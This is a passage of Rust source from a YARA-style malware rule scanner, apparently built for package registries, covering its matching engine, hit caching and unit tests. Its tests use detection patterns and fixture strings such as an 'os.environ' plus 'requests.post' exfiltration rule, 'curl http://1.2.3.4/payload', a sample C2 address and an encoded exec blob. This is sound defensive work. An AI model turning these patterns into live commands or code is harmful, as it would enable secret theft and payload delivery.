        StringSet::Them => rule.rule.strings.iter().map(|s| s.id.as_str()).collect(),
        StringSet::Patterns(pats) => rule
            .rule
            .strings
            .iter()
            .filter(|s| pats.iter().any(|p| p.matches(&s.id)))
            .map(|s| s.id.as_str())
            .collect(),
    }
}

fn eval_zero(rule: &CompiledRule, cond: &Condition) -> Tri {
    match cond {
        Condition::Bool(b) => Tri::from_bool(*b),
        Condition::StringRef(id) => {
            if atom_backed(rule, id) {
                Tri::False
            } else {
                Tri::Unknown
            }
        }
        Condition::Count { id, op, value } => {
            if atom_backed(rule, id) {
                Tri::from_bool(crate::scanner::cmp(0, op, *value))
            } else {
                Tri::Unknown
            }
        }
        Condition::At { id, .. } => {
            if atom_backed(rule, id) {
                Tri::False
            } else {
                Tri::Unknown
            }
        }
        Condition::AllOf(set) => {
            let ids = covered_ids(rule, set);
            // The scanner evaluates `all of` over an empty set as false,
            // and any atom-backed member has zero matches.
            if ids.is_empty() || ids.iter().any(|id| atom_backed(rule, id)) {
                Tri::False
            } else {
                Tri::Unknown
            }
        }
        Condition::AnyOf(set) => {
            let ids = covered_ids(rule, set);
            if ids.iter().all(|id| atom_backed(rule, id)) {
                Tri::False
            } else {
                Tri::Unknown
            }
        }
        Condition::NOf(n, set) => {
            let ids = covered_ids(rule, set);
            let unknown = ids.iter().filter(|id| !atom_backed(rule, id)).count() as i64;
            if *n <= 0 {
                Tri::True
            } else if *n > unknown {
                Tri::False
            } else {
                Tri::Unknown
            }
        }
        Condition::Filesize { .. } => Tri::Unknown,
        Condition::And(parts) => {
            let mut out = Tri::True;
            for p in parts {
                match eval_zero(rule, p) {
                    Tri::False => return Tri::False,
                    Tri::Unknown => out = Tri::Unknown,
                    Tri::True => {}
                }
            }
            out
        }
        Condition::Or(parts) => {
            let mut out = Tri::False;
            for p in parts {
                match eval_zero(rule, p) {
                    Tri::True => return Tri::True,
                    Tri::Unknown => out = Tri::Unknown,
                    Tri::False => {}
                }
            }
            out
        }
        Condition::Not(inner) => eval_zero(rule, inner).not(),
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::compiler::compile;

    fn atoms_of(src: &str) -> RuleAtoms {
        let rules = compile(src).expect("compile");
        literal_atoms(&rules.rules[0])
    }

    #[test]
    fn simple_string_rule_is_exhaustive() {
        let a = atoms_of("rule r { strings: $a = \"os.system\" condition: $a }");
        assert!(a.exhaustive);
        assert_eq!(a.atoms, vec!["os.system".to_owned()]);
    }

    #[test]
    fn all_of_them_is_exhaustive() {
        let a = atoms_of("rule r { strings: $a = \"one\" $b = \"two\" condition: all of them }");
        assert!(a.exhaustive);
        assert_eq!(a.atoms.len(), 2);
    }

    #[test]
    fn nocase_strings_are_atoms() {
        let a = atoms_of("rule r { strings: $a = \"PowerShell\" nocase condition: $a }");
        assert!(a.exhaustive);
        assert_eq!(a.atoms, vec!["PowerShell".to_owned()]);
    }

    #[test]
    fn regex_only_rule_is_not_exhaustive() {
        let a = atoms_of("rule r { strings: $re = /ab+c/ condition: $re }");
        assert!(!a.exhaustive);
        assert!(a.atoms.is_empty());
    }

    #[test]
    fn regex_or_text_is_not_exhaustive() {
        // The regex branch alone can satisfy the condition.
        let a = atoms_of("rule r { strings: $a = \"x1\" $re = /y+/ condition: $a or $re }");
        assert!(!a.exhaustive);
        assert_eq!(a.atoms, vec!["x1".to_owned()]);
    }

    #[test]
    fn regex_and_text_is_exhaustive() {
        // The text string is necessary, so its atom gates the rule.
        let a = atoms_of("rule r { strings: $a = \"x1\" $re = /y+/ condition: $a and $re }");
        assert!(a.exhaustive);
    }

    #[test]
    fn negated_string_is_not_exhaustive() {
        // `not $a` is true precisely when the atom is absent.
        let a = atoms_of(
            "rule r { strings: $a = \"setup\" $bad = \"license\" condition: $a and not $bad }",
        );
        assert!(a.exhaustive, "gated by the positive $a");
        let b = atoms_of("rule r { strings: $bad = \"license\" condition: not $bad }");
        assert!(!b.exhaustive);
    }

    #[test]
    fn filesize_conditions_are_unknown() {
        let a = atoms_of("rule r { condition: filesize > 10 }");
        assert!(!a.exhaustive);
        let b = atoms_of("rule r { strings: $a = \"x1\" condition: $a and filesize > 10 }");
        assert!(b.exhaustive, "the string still gates the rule");
        let c = atoms_of("rule r { strings: $a = \"x1\" condition: $a or filesize > 10 }");
        assert!(!c.exhaustive);
    }

    #[test]
    fn wide_strings_are_not_atom_backed() {
        let a = atoms_of("rule r { strings: $a = \"cmd\" wide condition: $a }");
        assert!(!a.exhaustive);
        assert!(a.atoms.is_empty());
        // wide+ascii can still match via the wide expansion alone, so it
        // contributes no atom and the rule always runs.
        let b = atoms_of("rule r { strings: $a = \"cmd\" wide ascii condition: $a }");
        assert!(!b.exhaustive);
        assert!(b.atoms.is_empty());
    }

    #[test]
    fn count_condition_gates() {
        let a = atoms_of("rule r { strings: $a = \"GET\" condition: #a >= 3 }");
        assert!(a.exhaustive);
        // `#a == 0` is satisfied by absence: must not be skippable.
        let b = atoms_of("rule r { strings: $a = \"GET\" condition: #a == 0 }");
        assert!(!b.exhaustive);
    }

    #[test]
    fn n_of_with_regexes_counts_unknowns() {
        let a =
            atoms_of("rule r { strings: $a = \"aaa\" $b = /b+/ $c = /c+/ condition: 3 of them }");
        assert!(a.exhaustive, "3 of them needs the atom-backed $a");
        let b =
            atoms_of("rule r { strings: $a = \"aaa\" $b = /b+/ $c = /c+/ condition: 2 of them }");
        assert!(!b.exhaustive, "the two regexes alone can satisfy 2 of them");
    }

    #[test]
    fn boolean_rules() {
        let t = atoms_of("rule r { condition: true }");
        assert!(!t.exhaustive);
        // `condition: false` can never match: skippable with no atoms.
        let f = atoms_of("rule r { condition: false }");
        assert!(f.exhaustive);
        assert!(f.atoms.is_empty());
    }

    #[test]
    fn at_condition_gates() {
        let a = atoms_of("rule r { strings: $a = \"MZ\" condition: $a at 0 }");
        assert!(a.exhaustive);
        assert_eq!(a.atoms, vec!["MZ".to_owned()]);
    }
}

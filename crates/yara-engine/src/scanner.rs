//! Rule scanner: matches compiled rules against byte buffers.
//!
//! All plain-text strings across the whole ruleset are merged into two
//! tier-selecting multi-literal matchers (case-sensitive and `nocase`) —
//! a Teddy-style SWAR prefilter for small/long pattern sets, Aho–Corasick
//! otherwise — so scanning a package against hundreds of rules stays a
//! two-pass operation; regexes run per string definition.

use textmatch::{MatchKind, MultiLiteral};

use crate::ast::{Condition, StringSet, StringValue};
use crate::compiler::CompiledRules;

/// Offsets at which one string definition matched.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct StringMatch {
    /// String identifier without `$`.
    pub id: String,
    /// Match start offsets, ascending.
    pub offsets: Vec<usize>,
}

/// A rule whose condition evaluated true on the scanned data.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct RuleMatch {
    /// Matching rule name.
    pub rule: String,
    /// Per-string match offsets (only strings that matched at least once).
    pub strings: Vec<StringMatch>,
}

/// Work counters for one scan pass.
///
/// Regex strings dominate per-rule scan cost (plain-text strings ride the
/// shared Aho–Corasick pass), so the counters track how much haystack the
/// regex engine actually read; the scanhub service aggregates them across
/// packages.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub struct ScanMetrics {
    /// Regex string definitions evaluated (excluded rules not counted).
    pub regex_strings_evaluated: u64,
    /// Haystack bytes handed to the regex engine (buffer length times
    /// evaluations — each evaluation is one single-pass scan).
    pub regex_bytes_scanned: u64,
}

/// String-definition hits of the whole ruleset on one scan unit (a
/// file's raw bytes, or one decoded layer), produced by
/// [`Scanner::collect_hits`] and consumed by [`Scanner::eval_hits`].
///
/// Offsets are unit-relative `u32`s (registry uploads are far below
/// 4 GiB); slots are the scanner's dense string indices. The set is a
/// pure function of `(ruleset, data)`, which is what makes it cacheable
/// in a content-addressed artifact.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct FileHits {
    /// `(dense string slot, ascending match offsets)`, sorted by slot.
    slots: Vec<(u32, Vec<u32>)>,
    /// Work performed collecting these hits.
    pub metrics: ScanMetrics,
}

impl FileHits {
    /// True when no string definition matched this unit.
    pub fn is_empty(&self) -> bool {
        self.slots.is_empty()
    }

    /// Total match offsets recorded across all string definitions.
    pub fn hit_count(&self) -> usize {
        self.slots.iter().map(|(_, offs)| offs.len()).sum()
    }

    /// Approximate heap footprint, for cache accounting.
    pub fn stored_bytes(&self) -> usize {
        self.slots.iter().map(|(_, offs)| 8 + 4 * offs.len()).sum()
    }
}

/// Reusable per-worker scan state: one offset list per string definition,
/// invalidated by generation stamps instead of clearing, so a long-lived
/// worker's scan path performs no per-scan allocation after warm-up.
#[derive(Debug, Default)]
pub struct ScanScratch {
    generation: u64,
    stamps: Vec<u64>,
    offsets: Vec<Vec<usize>>,
}

impl ScanScratch {
    /// Creates an empty scratch (sized lazily on first use).
    pub fn new() -> Self {
        Self::default()
    }

    fn begin(&mut self, slots: usize) {
        self.generation += 1;
        if self.stamps.len() < slots {
            self.stamps.resize(slots, 0);
            self.offsets.resize_with(slots, Vec::new);
        }
    }

    fn push(&mut self, slot: usize, offset: usize) {
        if self.stamps[slot] != self.generation {
            self.stamps[slot] = self.generation;
            self.offsets[slot].clear();
        }
        self.offsets[slot].push(offset);
    }

    fn get(&self, slot: usize) -> Option<&[usize]> {
        (self.stamps[slot] == self.generation).then(|| self.offsets[slot].as_slice())
    }
}

/// A reusable scanner over a compiled ruleset.
#[derive(Debug)]
pub struct Scanner<'r> {
    rules: &'r CompiledRules,
    cs: MultiLiteral,
    ci: MultiLiteral,
    /// automaton pattern index -> (rule idx, string idx, wide, fullword)
    cs_map: Vec<(usize, usize, bool, bool)>,
    ci_map: Vec<(usize, usize, bool, bool)>,
    /// Per rule, the base index of its dense string-slot range
    /// (`slot = string_base[ri] + si`).
    string_base: Vec<usize>,
    total_strings: usize,
}

impl<'r> Scanner<'r> {
    /// Builds a scanner for `rules`.
    pub fn new(rules: &'r CompiledRules) -> Self {
        let mut cs_pats: Vec<Vec<u8>> = Vec::new();
        let mut ci_pats: Vec<Vec<u8>> = Vec::new();
        let mut cs_map = Vec::new();
        let mut ci_map = Vec::new();
        for (ri, cr) in rules.rules.iter().enumerate() {
            for (si, s) in cr.rule.strings.iter().enumerate() {
                if let StringValue::Text { text, mods } = &s.value {
                    let bytes = text.as_bytes().to_vec();
                    if mods.ascii {
                        if mods.nocase {
                            ci_pats.push(bytes.clone());
                            ci_map.push((ri, si, false, mods.fullword));
                        } else {
                            cs_pats.push(bytes.clone());
                            cs_map.push((ri, si, false, mods.fullword));
                        }
                    }
                    if mods.wide {
                        let wide: Vec<u8> = bytes.iter().flat_map(|&b| [b, 0u8]).collect();
                        if mods.nocase {
                            ci_pats.push(wide);
                            ci_map.push((ri, si, true, mods.fullword));
                        } else {
                            cs_pats.push(wide);
                            cs_map.push((ri, si, true, mods.fullword));
                        }
                    }
                }
            }
        }
        let mut string_base = Vec::with_capacity(rules.rules.len());
        let mut total_strings = 0usize;
        for cr in &rules.rules {
            string_base.push(total_strings);
            total_strings += cr.rule.strings.len();
        }
        Scanner {
            rules,
            cs: MultiLiteral::new(&cs_pats, MatchKind::CaseSensitive),
            ci: MultiLiteral::new(&ci_pats, MatchKind::CaseInsensitive),
            cs_map,
            ci_map,
            string_base,
            total_strings,
        }
    }

    /// Scans `data` and returns every rule whose condition holds.
    pub fn scan(&self, data: &[u8]) -> Vec<RuleMatch> {
        self.scan_rules(data, |_| true)
    }

    /// Scans `data` against the subset of rules selected by `include`
    /// (called with each rule's declaration index).
    ///
    /// Results are identical to filtering [`Scanner::scan`]'s output to
    /// the selected rules, but excluded rules pay no regex evaluation and
    /// no condition evaluation — the entry point for literal-prefilter
    /// routing, where a caller has proven the excluded rules cannot
    /// match.
    pub fn scan_rules(&self, data: &[u8], include: impl Fn(usize) -> bool) -> Vec<RuleMatch> {
        self.scan_rules_with_metrics(data, include).0
    }

    /// Like [`Scanner::scan_rules`], additionally reporting how much work
    /// the regex engine performed ([`ScanMetrics`]).
    pub fn scan_rules_with_metrics(
        &self,
        data: &[u8],
        include: impl Fn(usize) -> bool,
    ) -> (Vec<RuleMatch>, ScanMetrics) {
        let mut scratch = ScanScratch::new();
        self.scan_rules_scratch(data, include, &mut scratch)
    }

    /// Like [`Scanner::scan_rules_with_metrics`], but with caller-owned
    /// scratch: a long-lived worker reuses one [`ScanScratch`] across
    /// packages and the steady-state scan allocates nothing beyond the
    /// returned matches.
    pub fn scan_rules_scratch(
        &self,
        data: &[u8],
        include: impl Fn(usize) -> bool,
        scratch: &mut ScanScratch,
    ) -> (Vec<RuleMatch>, ScanMetrics) {
        let mut metrics = ScanMetrics::default();
        scratch.begin(self.total_strings);

        for (auto, map) in [(&self.cs, &self.cs_map), (&self.ci, &self.ci_map)] {
            auto.for_each_match(data, |m| {
                let (ri, si, _wide, fullword) = map[m.pattern];
                // Excluded rules pay no offset bookkeeping: the routing
                // proved their conditions cannot hold, so their text hits
                // are dead weight.
                if include(ri) && (!fullword || is_fullword(data, m.start, m.end)) {
                    scratch.push(self.string_base[ri] + si, m.start);
                }
                true
            });
        }

        for (ri, cr) in self.rules.rules.iter().enumerate() {
            if !include(ri) {
                continue;
            }
            // Regex strings: evaluated lazily per rule, each a single
            // accelerated forward pass over the buffer.
            for (si, regex) in cr.regexes.iter().enumerate() {
                if let Some(re) = regex {
                    metrics.regex_strings_evaluated += 1;
                    metrics.regex_bytes_scanned += data.len() as u64;
                    for m in re.find_all(data) {
                        scratch.push(self.string_base[ri] + si, m.start);
                    }
                }
            }
        }
        (
            self.eval_conditions(data.len() as i64, &include, scratch),
            metrics,
        )
    }

    /// Collects every string-definition hit of the **whole** ruleset on
    /// one scan unit — a file's raw bytes or one decoded layer — with no
    /// rule routing and no condition evaluation.
    ///
    /// This is the artifact-build entry point: the hits are a pure
    /// function of `(ruleset, data)`, so a content-addressed cache can
    /// store them per file and a later [`Scanner::eval_hits`] call can
    /// evaluate any routed rule subset against any combination of cached
    /// units without touching the bytes again.
    pub fn collect_hits(&self, data: &[u8]) -> FileHits {
        let mut scratch = ScanScratch::new();
        scratch.begin(self.total_strings);
        for (auto, map) in [(&self.cs, &self.cs_map), (&self.ci, &self.ci_map)] {
            auto.for_each_match(data, |m| {
                let (ri, si, _wide, fullword) = map[m.pattern];
                if !fullword || is_fullword(data, m.start, m.end) {
                    scratch.push(self.string_base[ri] + si, m.start);
                }
                true
            });
        }
        let mut metrics = ScanMetrics::default();
        for (ri, cr) in self.rules.rules.iter().enumerate() {
            for (si, regex) in cr.regexes.iter().enumerate() {
                if let Some(re) = regex {
                    metrics.regex_strings_evaluated += 1;
                    metrics.regex_bytes_scanned += data.len() as u64;
                    for m in re.find_all(data) {
                        scratch.push(self.string_base[ri] + si, m.start);
                    }
                }
            }
        }
        let slots = (0..self.total_strings)
            .filter_map(|slot| {
                scratch
                    .get(slot)
                    .map(|offs| (slot as u32, offs.iter().map(|&o| o as u32).collect()))
            })
            .collect();
        FileHits { slots, metrics }
    }

    /// Marks in `out` (resized to the rule count) every rule with at
    /// least one string-definition hit in `hits`.
    ///
    /// Callers evaluating one small unit (a decoded layer) use this to
    /// restrict evaluation to rules with actual evidence *in* the unit:
    /// stringless conditions (`filesize` bounds, bare negations) hold
    /// trivially against tiny unit-local sizes and would otherwise
    /// produce spurious matches.
    pub fn mark_rules_with_hits(&self, hits: &FileHits, out: &mut Vec<bool>) {
        out.clear();
        out.resize(self.rules.rules.len(), false);
        for (slot, _) in &hits.slots {
            // string_base is the prefix-sum of per-rule string counts:
            // the owning rule is the last base <= slot.
            let ri = self
                .string_base
                .partition_point(|&base| base <= *slot as usize)
                - 1;
            out[ri] = true;
        }
    }

    /// Evaluates rule conditions over the union of pre-collected hit
    /// sets, each rebased to its unit's global offset.
    ///
    /// `parts` yields `(base, hits)` pairs; every offset in `hits` is
    /// shifted by `base` before condition evaluation, so concatenating
    /// the units and scanning the result yields the same per-string
    /// offset sets (matches spanning a unit boundary excepted — units
    /// are scanned independently by [`Scanner::collect_hits`]).
    /// `filesize` is the caller's notion of total scanned size.
    pub fn eval_hits<'h>(
        &self,
        parts: impl IntoIterator<Item = (usize, &'h FileHits)>,
        filesize: i64,
        include: impl Fn(usize) -> bool,
        scratch: &mut ScanScratch,
    ) -> Vec<RuleMatch> {
        scratch.begin(self.total_strings);
        for (base, hits) in parts {
            for (slot, offs) in &hits.slots {
                for &o in offs {
                    scratch.push(*slot as usize, base + o as usize);
                }
            }
        }
        self.eval_conditions(filesize, &include, scratch)
    }

    /// Evaluates every included rule's condition against the offsets
    /// already accumulated in `scratch`, collecting matches.
    fn eval_conditions(
        &self,
        filesize: i64,
        include: &impl Fn(usize) -> bool,
        scratch: &ScanScratch,
    ) -> Vec<RuleMatch> {
        let mut out = Vec::new();
        for (ri, cr) in self.rules.rules.iter().enumerate() {
            if !include(ri) {
                continue;
            }
            let ctx = Context {
                rule: cr,
                scratch,
                base: self.string_base[ri],
                filesize,
            };
            if ctx.eval(&cr.rule.condition) {
                let mut strings = Vec::new();
                for (si, s) in cr.rule.strings.iter().enumerate() {
                    if let Some(offs) = scratch.get(self.string_base[ri] + si) {
                        let mut offs = offs.to_vec();
                        offs.sort_unstable();
                        offs.dedup();
                        strings.push(StringMatch {
                            id: s.id.clone(),
                            offsets: offs,
                        });
                    }
                }
                out.push(RuleMatch {
                    rule: cr.rule.name.clone(),
                    strings,
                });
            }
        }
        out
    }

    /// Convenience: does any rule match?
    pub fn is_match(&self, data: &[u8]) -> bool {
        !self.scan(data).is_empty()
    }
}

struct Context<'a> {
    rule: &'a crate::compiler::CompiledRule,
    scratch: &'a ScanScratch,
    /// Dense string-slot base of this rule (`slot = base + string idx`).
    base: usize,
    filesize: i64,
}

impl Context<'_> {
    fn string_index(&self, id: &str) -> Option<usize> {
        self.rule.rule.strings.iter().position(|s| s.id == id)
    }

    fn count(&self, id: &str) -> i64 {
        self.string_index(id)
            .and_then(|si| self.scratch.get(self.base + si))
            .map_or(0, |v| v.len() as i64)
    }

    fn matched(&self, id: &str) -> bool {
        self.count(id) > 0
    }

    fn covered_ids(&self, set: &StringSet) -> Vec<&str> {
        match set {
            StringSet::Them => self
                .rule
                .rule
                .strings
                .iter()
                .map(|s| s.id.as_str())
                .collect(),
            StringSet::Patterns(pats) => self
                .rule
                .rule
                .strings
                .iter()
                .filter(|s| pats.iter().any(|p| p.matches(&s.id)))
                .map(|s| s.id.as_str())
                .collect(),
        }
    }

    fn eval(&self, cond: &Condition) -> bool {
        match cond {
            Condition::Bool(b) => *b,
            Condition::StringRef(id) => self.matched(id),
            Condition::AllOf(set) => {
                let ids = self.covered_ids(set);
                !ids.is_empty() && ids.iter().all(|id| self.matched(id))
            }
            Condition::AnyOf(set) => self.covered_ids(set).iter().any(|id| self.matched(id)),
            Condition::NOf(n, set) => {
                let hit = self
                    .covered_ids(set)
                    .iter()
                    .filter(|id| self.matched(id))
                    .count() as i64;
                hit >= *n
            }
            Condition::Count { id, op, value } => cmp(self.count(id), op, *value),
            Condition::At { id, offset } => self
                .string_index(id)
                .and_then(|si| self.scratch.get(self.base + si))
                .is_some_and(|offs| offs.contains(&(*offset as usize))),
            Condition::Filesize { op, value } => cmp(self.filesize, op, *value),
            Condition::And(parts) => parts.iter().all(|p| self.eval(p)),
            Condition::Or(parts) => parts.iter().any(|p| self.eval(p)),
            Condition::Not(inner) => !self.eval(inner),
        }
    }
}

pub(crate) fn cmp(lhs: i64, op: &str, rhs: i64) -> bool {
    match op {
        ">" => lhs > rhs,
        ">=" => lhs >= rhs,
        "<" => lhs < rhs,
        "<=" => lhs <= rhs,
        "==" => lhs == rhs,
        "!=" => lhs != rhs,
        _ => false,
    }
}

fn is_fullword(data: &[u8], start: usize, end: usize) -> bool {
    let before_ok = start == 0 || !data[start - 1].is_ascii_alphanumeric();
    let after_ok = end >= data.len() || !data[end].is_ascii_alphanumeric();
    before_ok && after_ok
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::compiler::compile;

    fn scan_one(rule: &str, data: &[u8]) -> Vec<RuleMatch> {
        let compiled = compile(rule).expect("compile");
        Scanner::new(&compiled).scan(data)
    }

    #[test]
    fn matches_single_string() {
        let hits = scan_one(
            "rule r { strings: $a = \"os.system\" condition: $a }",
            b"import os; os.system('id')",
        );
        assert_eq!(hits.len(), 1);
        assert_eq!(hits[0].rule, "r");
        assert_eq!(hits[0].strings[0].offsets, vec![11]);
    }

    #[test]
    fn no_match_when_absent() {
        let hits = scan_one(
            "rule r { strings: $a = \"evil\" condition: $a }",
            b"perfectly fine code",
        );
        assert!(hits.is_empty());
    }

    #[test]
    fn all_of_them_requires_every_string() {
        let rule = "rule r { strings: $a = \"one\" $b = \"two\" condition: all of them }";
        assert!(scan_one(rule, b"one and two").len() == 1);
        assert!(scan_one(rule, b"just one").is_empty());
    }

    #[test]
    fn any_of_them_requires_one() {
        let rule = "rule r { strings: $a = \"one\" $b = \"two\" condition: any of them }";
        assert_eq!(scan_one(rule, b"just one").len(), 1);
    }

    #[test]
    fn n_of_wildcard() {
        let rule =
            "rule r { strings: $u1 = \"aaa\" $u2 = \"bbb\" $u3 = \"ccc\" condition: 2 of ($u*) }";
        assert!(scan_one(rule, b"aaa ccc").len() == 1);
        assert!(scan_one(rule, b"aaa only").is_empty());
    }

    #[test]
    fn count_condition() {
        let rule = "rule r { strings: $a = \"GET\" condition: #a >= 3 }";
        assert!(scan_one(rule, b"GET GET GET").len() == 1);
        assert!(scan_one(rule, b"GET GET").is_empty());
    }

    #[test]
    fn at_condition() {
        let rule = "rule r { strings: $a = \"MZ\" condition: $a at 0 }";
        assert!(scan_one(rule, b"MZ\x90\x00").len() == 1);
        assert!(scan_one(rule, b"xxMZ").is_empty());
    }

    #[test]
    fn filesize_condition() {
        let rule = "rule r { condition: filesize > 10 }";
        assert!(scan_one(rule, b"0123456789ABC").len() == 1);
        assert!(scan_one(rule, b"short").is_empty());
    }

    #[test]
    fn nocase_modifier() {
        let rule = "rule r { strings: $a = \"powershell\" nocase condition: $a }";
        assert_eq!(scan_one(rule, b"PoWeRsHeLl").len(), 1);
    }

    #[test]
    fn case_sensitive_by_default() {
        let rule = "rule r { strings: $a = \"powershell\" condition: $a }";
        assert!(scan_one(rule, b"POWERSHELL").is_empty());
    }

    #[test]
    fn wide_modifier_matches_utf16le() {
        let rule = "rule r { strings: $a = \"cmd\" wide condition: $a }";
        let wide: Vec<u8> = b"cmd".iter().flat_map(|&b| [b, 0u8]).collect();
        assert_eq!(scan_one(rule, &wide).len(), 1);
        // wide without ascii must not match plain text
        assert!(scan_one(rule, b"cmd").is_empty());
    }

    #[test]
    fn wide_ascii_matches_both() {
        let rule = "rule r { strings: $a = \"cmd\" wide ascii condition: $a }";
        assert_eq!(scan_one(rule, b"cmd").len(), 1);
        let wide: Vec<u8> = b"cmd".iter().flat_map(|&b| [b, 0u8]).collect();
        assert_eq!(scan_one(rule, &wide).len(), 1);
    }

    #[test]
    fn fullword_modifier() {
        let rule = "rule r { strings: $a = \"eval\" fullword condition: $a }";
        assert_eq!(scan_one(rule, b"x = eval(y)").len(), 1);
        assert!(scan_one(rule, b"medieval").is_empty());
    }

    #[test]
    fn regex_string() {
        let rule =
            r#"rule r { strings: $ip = /\d{1,3}\.\d{1,3}\.\d{1,3}\.\d{1,3}/ condition: $ip }"#;
        assert_eq!(scan_one(rule, b"c2 = '185.62.190.159'").len(), 1);
        assert!(scan_one(rule, b"no address").is_empty());
    }

    #[test]
    fn regex_nocase_flag() {
        let rule = "rule r { strings: $a = /select .* from/i condition: $a }";
        assert_eq!(scan_one(rule, b"SELECT secret FROM users").len(), 1);
    }

    #[test]
    fn not_condition() {
        let rule =
            "rule r { strings: $a = \"setup\" $bad = \"license\" condition: $a and not $bad }";
        assert_eq!(scan_one(rule, b"setup code").len(), 1);
        assert!(scan_one(rule, b"setup license").is_empty());
    }

    #[test]
    fn boolean_literals() {
        assert_eq!(scan_one("rule r { condition: true }", b"").len(), 1);
        assert!(scan_one("rule r { condition: false }", b"x").is_empty());
    }

    #[test]
    fn multiple_rules_matched_independently() {
        let src = r#"
rule a { strings: $x = "alpha" condition: $x }
rule b { strings: $x = "beta" condition: $x }
"#;
        let compiled = compile(src).expect("compile");
        let scanner = Scanner::new(&compiled);
        let hits = scanner.scan(b"alpha and beta");
        assert_eq!(hits.len(), 2);
        let hits = scanner.scan(b"only beta");
        assert_eq!(hits.len(), 1);
        assert_eq!(hits[0].rule, "b");
    }

    #[test]
    fn offsets_deduped_and_sorted() {
        let rule = "rule r { strings: $a = \"ab\" condition: #a >= 2 }";
        let hits = scan_one(rule, b"ab..ab");
        assert_eq!(hits[0].strings[0].offsets, vec![0, 4]);
    }

    #[test]
    fn scan_rules_filters_without_changing_matches() {
        let src = r#"
rule a { strings: $x = "alpha" condition: $x }
rule b { strings: $x = "beta" condition: $x }
rule c { strings: $x = "gamma" condition: $x }
"#;
        let compiled = compile(src).expect("compile");
        let scanner = Scanner::new(&compiled);
        let data = b"alpha beta gamma";
        let all = scanner.scan(data);
        assert_eq!(all.len(), 3);
        let subset = scanner.scan_rules(data, |ri| ri != 1);
        let expected: Vec<RuleMatch> = all.iter().filter(|m| m.rule != "b").cloned().collect();
        assert_eq!(subset, expected);
        assert!(scanner.scan_rules(data, |_| false).is_empty());
    }

    #[test]
    fn scanner_reuse_across_inputs() {
        let compiled = compile("rule r { strings: $a = \"x1\" condition: $a }").expect("ok");
        let scanner = Scanner::new(&compiled);
        assert!(scanner.is_match(b"x1"));
        assert!(!scanner.is_match(b"x2"));
        assert!(scanner.is_match(b"zzzx1zzz"));
    }

    #[test]
    fn scan_metrics_count_regex_work() {
        let src = r#"
rule text { strings: $a = "alpha" condition: $a }
rule ip { strings: $re = /\d{1,3}\.\d{1,3}\.\d{1,3}\.\d{1,3}/ condition: $re }
rule url { strings: $re = /https?:\/\/[\w.\-\/]{4,}/ condition: $re }
"#;
        let compiled = compile(src).expect("compile");
        let scanner = Scanner::new(&compiled);
        let data = b"curl http://1.2.3.4/payload from 10.0.0.1";
        let (hits, metrics) = scanner.scan_rules_with_metrics(data, |_| true);
        assert_eq!(hits.len(), 2);
        // Two regex strings, each one full pass over the buffer.
        assert_eq!(metrics.regex_strings_evaluated, 2);
        assert_eq!(metrics.regex_bytes_scanned, 2 * data.len() as u64);
        // Excluded rules pay nothing.
        let (_, metrics) = scanner.scan_rules_with_metrics(data, |ri| ri == 0);
        assert_eq!(metrics.regex_strings_evaluated, 0);
        assert_eq!(metrics.regex_bytes_scanned, 0);
    }

    #[test]
    fn scratch_reuse_is_stateless_across_buffers() {
        let src = r#"
rule a { strings: $x = "alpha" condition: $x }
rule c { strings: $x = "GET" condition: #x >= 2 }
"#;
        let compiled = compile(src).expect("compile");
        let scanner = Scanner::new(&compiled);
        let mut scratch = ScanScratch::new();
        let (hot, _) = scanner.scan_rules_scratch(b"alpha GET GET", |_| true, &mut scratch);
        assert_eq!(hot.len(), 2);
        // A clean buffer scanned with the dirty scratch must not see the
        // previous buffer's offsets.
        let (cold, _) = scanner.scan_rules_scratch(b"nothing here", |_| true, &mut scratch);
        assert!(cold.is_empty(), "stale offsets leaked: {cold:?}");
        // And a re-scan of the first buffer reproduces the fresh result.
        let (again, _) = scanner.scan_rules_scratch(b"alpha GET GET", |_| true, &mut scratch);
        assert_eq!(hot, again);
    }

    #[test]
    fn excluded_rules_skip_offset_bookkeeping_without_changing_matches() {
        // `all of them` across two rules sharing an atom: excluding rule b
        // must not change rule a's matches even though b's hits are no
        // longer recorded.
        let src = r#"
rule a { strings: $x = "one" condition: $x }
rule b { strings: $x = "one" $y = "two" condition: all of them }
"#;
        let compiled = compile(src).expect("compile");
        let scanner = Scanner::new(&compiled);
        let data = b"one and two";
        let all = scanner.scan(data);
        assert_eq!(all.len(), 2);
        let subset = scanner.scan_rules(data, |ri| ri == 0);
        assert_eq!(subset.len(), 1);
        assert_eq!(subset[0], all[0]);
    }

    #[test]
    fn paper_table1_base64_rule() {
        // The YARA example from Table I of the paper (regex adapted to the
        // supported subset).
        let rule = r#"
rule base64 {
    meta:
        description = "Base64 encoded blob"
    strings:
        $a = /([A-Za-z0-9+\/]{4}){3,}(==|=)?/
    condition:
        $a
}
"#;
        let hits = scan_one(rule, b"data = 'aW1wb3J0IG9zO2V4ZWMoKQ=='");
        assert_eq!(hits.len(), 1);
    }

    /// A ruleset exercising text atoms, counts, `all of`, regexes and
    /// fullword across the collect/eval split.
    const UNION_RULES: &str = r#"
rule shell { strings: $a = "os.system" condition: $a }
rule pair { strings: $a = "os.environ" $b = "requests.post" condition: all of them }
rule triple { strings: $a = "import" condition: #a >= 3 }
rule rx { strings: $r = /ab+c/ condition: $r }
rule word { strings: $w = "spawn" fullword condition: $w }
"#;

    #[test]
    fn eval_hits_over_split_units_equals_scanning_the_concatenation() {
        // Splitting a buffer into units, collecting hits per unit and
        // evaluating the rebased union must reproduce a whole-buffer
        // scan, including cross-unit `all of` and summed counts.
        let compiled = compile(UNION_RULES).expect("compile");
        let scanner = Scanner::new(&compiled);
        let unit_a = b"import os\nos.environ['x']\nimport sys\n".as_slice();
        let unit_b = b"import json\nrequests.post(u)\nabbbc spawn\n".as_slice();
        let mut whole = unit_a.to_vec();
        whole.extend_from_slice(unit_b);

        let direct = scanner.scan(&whole);
        let hits_a = scanner.collect_hits(unit_a);
        let hits_b = scanner.collect_hits(unit_b);
        let mut scratch = ScanScratch::new();
        let merged = scanner.eval_hits(
            [(0usize, &hits_a), (unit_a.len(), &hits_b)],
            whole.len() as i64,
            |_| true,
            &mut scratch,
        );
        assert_eq!(merged, direct);
        // The pair rule only matches through the cross-unit union.
        assert!(merged.iter().any(|m| m.rule == "pair"));
        // Counts sum across units: 2 imports in unit_a + 1 in unit_b
